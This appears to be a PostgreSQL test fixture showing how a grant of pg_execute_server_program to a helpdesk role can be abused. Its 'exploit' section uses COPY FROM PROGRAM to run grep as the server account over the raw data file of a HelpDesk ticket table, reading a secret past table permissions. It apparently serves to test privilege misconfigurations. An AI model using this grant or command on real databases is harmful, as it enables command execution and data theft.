-- pg_execute_server_program for an import through gunzip: a program runs as the server's account, in the folder of its data.
-- object: role:{desk}
-- base: third_helpdesk
--- leak
RESET ROLE;
GRANT pg_execute_server_program TO {desk};
--- operator
RESET ROLE;
CHECKPOINT;
--- exploit
CREATE TEMP TABLE line (text text);
DO $$ BEGIN
    EXECUTE format('COPY line FROM PROGRAM %L', 'grep -ao "secret of b" ' || pg_relation_filepath('"HelpDesk"."Ticket"'));
END $$;
SELECT text FROM line;
